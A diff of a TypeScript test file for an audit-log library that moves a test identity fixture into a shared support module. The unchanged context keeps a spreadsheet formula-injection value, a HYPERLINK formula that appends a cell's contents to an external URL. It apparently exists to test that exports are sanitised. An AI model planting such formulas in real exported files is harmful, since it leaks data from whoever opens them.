@@ -1,7 +1,6 @@
-import { randomUUID } from "node:crypto";
 import { beforeAll, describe, expect, test } from "vitest";
 import { append } from "#lib/audit/append.ts";
-import type { By, Someone } from "#lib/audit/audit-event.ts";
+import type { By } from "#lib/audit/audit-event.ts";
 import { checkChain } from "#lib/audit/proof/check-chain.ts";
 import { auditEventsOfSubject } from "#lib/audit/reading/audit-events-of-subject.ts";
 import { listAuditEvents } from "#lib/audit/reading/list-audit-events.ts";
@@ -9,15 +8,9 @@ import { listChoices } from "#lib/audit/reading/list-choices.ts";
 import { readAuditEvent } from "#lib/audit/reading/read-audit-event.ts";
 import { startExport } from "#lib/audit/reading/start-export.ts";
 import { tx } from "#lib/database/transact.ts";
+import { ADA } from "#test-support/audit/ada.ts";
 import { withOwnDatabase } from "#test-support/database/own-database.ts";
 
-const ADA: Someone = {
-  member: { id: randomUUID(), name: "Ada", email: "ada@example.com" },
-  sessionId: randomUUID(),
-  address: "192.0.2.7",
-  userAgent: "Test/1",
-  requestId: "req-12345",
-};
 const VISITOR = { ...ADA, member: null };
 const HOSTILE = '=HYPERLINK("https://example.com/"&A1)';
 /** With a semicolon as the list separator, a spreadsheet begins a new cell after it. */
